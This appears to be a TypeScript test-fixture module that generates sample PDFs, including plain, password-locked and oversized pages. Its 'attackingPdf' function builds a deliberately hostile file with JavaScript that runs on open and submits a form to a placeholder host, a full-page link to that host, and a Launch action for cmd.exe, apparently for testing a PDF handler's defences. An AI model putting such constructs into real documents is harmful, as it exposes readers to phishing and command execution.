/** A PDF of these objects, the first of which is its catalog. */
function pdfOfObjects(objects: readonly string[], trailer = ""): Buffer {
  let text = "%PDF-1.7\n";
  const starts = objects.map((object, i) => {
    const start = text.length;
    text += `${i + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(start).padStart(10, "0")} 00000 n \n`;
  });
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${starts.join("")}`;
  return Buffer.from(
    `${text}${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${text.length}\n%%EOF\n`,
    "latin1",
  );
}

type Page = { words?: string; box?: string; catalog?: string; annotations?: string };

/** A page of one line, in a font that the file does not bring. */
function pageOf({ words = "", box = "0 0 595 842", catalog = "", annotations = "" }: Page) {
  const drawn = `BT /F1 24 Tf 60 700 Td (${words}) Tj ET`;
  return [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${annotations} >>`,
    `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
  ];
}

/** A page with these words. */
export function pdfSaying(words: string): Buffer {
  return pdfOfObjects(pageOf({ words }));
}

/** A file that wants to run a script when it is opened, and whose whole page leads elsewhere. */
export function attackingPdf(words: string): Buffer {
  const script = "app.alert(1); this.submitForm('https://foreign.example/'); app.launchURL('x');";
  const link = (action: string) =>
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << ${action} >> >>`;
  return pdfOfObjects(
    pageOf({
      words,
      catalog: `/OpenAction << /S /JavaScript /JS (${script.replaceAll(/[()]/g, "\\$&")}) >>`,
      annotations: `/Annots [${link("/S /URI /URI (https://foreign.example/)")} ${link("/S /Launch /F (cmd.exe)")}]`,
    }),
  );
}

/** A file that opens with a password only. */
export function lockedPdf(): Buffer {
  const key = (letter: string) => `<${letter.repeat(64)}>`;
  return pdfOfObjects(
    pageOf({ words: "Fechado" }),
    `/ID [${key("a")} ${key("a")}] /Encrypt << /Filter /Standard /V 1 /R 2 /O ${key("b")} /U ${key("c")} /P -4 >>`,
  );
}

/** A page as a strip that no screen shows. */
export function endlessPdf(): Buffer {
  return pdfOfObjects(pageOf({ words: "Longe", box: "0 0 10 1000000" }));
}
